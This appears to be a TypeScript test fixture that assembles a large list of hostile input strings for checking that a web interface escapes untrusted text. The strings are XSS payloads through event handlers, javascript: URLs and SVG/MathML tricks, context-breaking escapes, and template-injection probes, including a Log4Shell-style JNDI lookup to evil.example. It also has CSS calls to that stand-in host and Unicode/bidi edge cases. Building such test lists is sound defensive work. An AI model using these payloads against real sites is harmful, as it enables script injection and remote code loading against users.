import { hostileTexts } from '../../web/pages/hostile-texts.ts';

/** What would run if it became markup; each tells by a dialog. */
const run = 'alert(1)';

const names = [
  ...['onabort', 'onanimationend', 'onauxclick', 'onbeforeinput', 'onbeforetoggle', 'onblur'],
  ...['oncancel', 'oncanplay', 'onchange', 'onclick', 'oncontextmenu', 'oncopy', 'ondrag', 'onend'],
  ...['onerror', 'onfocus', 'onfocusin', 'onformdata', 'onhashchange', 'oninput', 'onkeydown'],
  ...[
    'onload',
    'onloadstart',
    'onmessage',
    'onmouseenter',
    'onpageshow',
    'onpaste',
    'onpointerover',
  ],
  ...['onscroll', 'onsubmit', 'ontoggle', 'ontransitionend', 'onunload', 'onwheel'],
];
const handlers = [
  ...names.map((name) => `<img src=x ${name}=${run}>`),
  ...names.map((name) => `" ${name}="${run}`),
  ...names.slice(0, 8).map((name) => `' ${name}='${run}`),
];

const elements = [
  `<audio src=x onerror=${run}>`,
  `<video><source onerror=${run}>`,
  `<body onload=${run}>`,
  `<embed src="javascript:${run}">`,
  `<object data="javascript:${run}">`,
  `<iframe src="javascript:${run}">`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>`,
  `<button popovertarget=x>x</button><p popover id=x onbeforetoggle=${run}>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}/>#x">`,
  `<math href="javascript:${run}">x</math>`,
  `<form id=x></form><button form=x formaction="javascript:${run}">x`,
  `<dialog open onclose=${run}><form method=dialog><button>x`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel=import href="data:text/html,<script>${run}</script>">`,
  `<style>@import'data:text/css,*{display:none}';</style>`,
  '<style>*{background:url(//evil.example/x)}</style>',
  '<div style="position:fixed;inset:0;background:red">',
  '<table background="//evil.example/x">',
  '<plaintext>',
  '<xmp>',
  '<frameset onload=alert(1)>',
];

/** Out of whatever a text may stand in. */
const escapes = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '`>',
  '*/',
  '//',
  '\\',
  '\\"',
  "\\'",
  ']]>',
  '-->',
  '%22%3E',
]
  .map((end) => `${end}<script>${run}</script>`)
  .concat(
    [
      '</style>',
      '</noscript>',
      '</option></select>',
      '</button>',
      '</svg>',
      '</a>',
      '</time>',
      '</li>',
    ].map((end) => `${end}<script>${run}</script>`),
  );

const templates = [
  `\${${run}}`,
  `{{${run}}}`,
  `{%${run}%}`,
  `<%${run}%>`,
  `[[${run}]]`,
  `@(${run})`,
  `$(${run})`,
  `#{${run}}`,
  '{{7*7}}',
  '__proto__',
  'constructor',
  '%s%n%x',
  '$&$`$1',
  `\${jndi:ldap://evil.example/x}`,
];

const addresses = [
  `javascript:${run}`,
  `JAVASCRIPT:${run}`,
  `java\tscript:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `[x](javascript:${run})`,
  `[x|javascript:${run}]`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `view-source:javascript:${run}`,
  'https://acme.example/"onmouseover="alert(1)',
  'https://user:pass@evil.example/',
];

const scripts = [
  'مرحبا <b>بالعالم</b>',
  'שלום ‏<i>עולם</i>',
  '日本語の<script>テスト</script>',
  '\u202Dturned\u202C \u202Eback\u202C',
  '\u2067\u2066\u2068\u2069 isolated',
  '\u200B\u200C\u200D\uFEFF nothing to see',
  '\u2028line\u2029paragraph',
  '\u0085\u000B\u000C controls',
  'Z\u0351\u036B\u0343\u036A\u0302a\u0334\u0335\u0336l\u0321\u0322g\u0316o'.repeat(20),
  '﷽'.repeat(40),
  '🏳️‍🌈🏴‍☠️👨‍👩‍👧‍👦'.repeat(20),
  '＜script＞alert(1)＜/script＞',
  '\u02BAonload=alert(1)\u02BA',
  'ſcript:<ſcript>alert(1)</ſcript>',
  'K<\u212Aill>',
  'unbroken'.repeat(200),
  'W'.repeat(3_000),
  `${'<b>'.repeat(200)}deep`,
  `${'&amp;'.repeat(200)}`,
  '\uDC00 half a pair',
];

/** Two hundred and more texts that would run, restyle, widen or turn a page around if they could. */
export const hostileStrings: readonly string[] = [
  ...new Set([
    ...[...hostileTexts, ...handlers, ...elements, ...escapes, ...templates, ...addresses],
    ...scripts,
  ]),
];

const mostInOne = 300;

/** A few in one text, so that one page shows many; what is long, or hides the rest, stands alone. */
export const hostileGroups: readonly string[] = grouped();

function grouped(): readonly string[] {
  const standsAlone = (text: string) => text.length > mostInOne / 2 || /<!|<(plain|xmp)/.test(text);
  const groups: string[] = [];
  let group = '';
  for (const text of hostileStrings.filter((each) => !standsAlone(each))) {
    if (group.length + text.length >= mostInOne) {
      groups.push(group);
      group = '';
    }
    group = `${group} ${text}`.trim();
  }
  return [...groups, group, ...hostileStrings.filter(standsAlone)];
}
